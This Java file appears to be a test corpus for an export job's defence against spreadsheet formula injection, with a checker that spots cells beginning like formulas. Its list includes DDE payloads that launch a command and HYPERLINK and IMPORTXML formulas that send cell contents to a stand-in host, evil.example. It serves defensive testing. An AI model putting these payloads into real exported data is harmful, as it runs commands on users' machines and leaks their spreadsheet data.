package io.counterfoil.jobs.export;

import java.util.List;

/** Texts that some spreadsheet takes for a formula, or would once a cell of it is split, and some that none does. */
final class FormulaCorpus {
    static final List<String> TEXTS = List.of(
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\"=1+1",
            "\"\"=1+1",
            "'=1+1",
            "a,=1+1",
            "a;=1+1",
            "a;  -1",
            "a\t=1+1",
            "a\"=1+1",
            "a|@x",
            "a\n=1+1",
            "a\r\n+1",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20x",
            " =1",
            "\u00A0=1",
            "\u3000@x",
            "\u000B=1",
            "\f+1",
            "\uFEFF=1",
            "\u200B-1",
            "a,\u00A0 \u2003=1",
            "a,            =1",
            "a\n\u0085=1",
            "--",
            "-",
            "plain-name",
            "a=b",
            "x@y.example",
            "1-2",
            "two words");

    private FormulaCorpus() {}

    /** However a program splits the cell, no part of it begins as a formula does; a lone dash is none. */
    static boolean harmless(String cell) {
        for (String part : cell.split("[\",;|\\t\\r\\n]", -1)) {
            int from = 0;
            while (from < part.length() && blank(part.charAt(from))) {
                from++;
            }
            String begin = part.substring(from);
            if (!begin.isEmpty()
                    && "=+-@\uFF0B\uFF0D\uFF1D\uFF20".indexOf(begin.charAt(0)) >= 0
                    && !begin.equals("-")) {
                return false;
            }
        }
        return cell.isEmpty() || "\t\r\n".indexOf(cell.charAt(0)) < 0;
    }

    /** To Java, to Unicode, or to neither and yet not to be seen. */
    private static boolean blank(char c) {
        return Character.isWhitespace(c)
                || Character.isSpaceChar(c)
                || c == '\u0085'
                || Character.getType(c) == Character.FORMAT;
    }
}
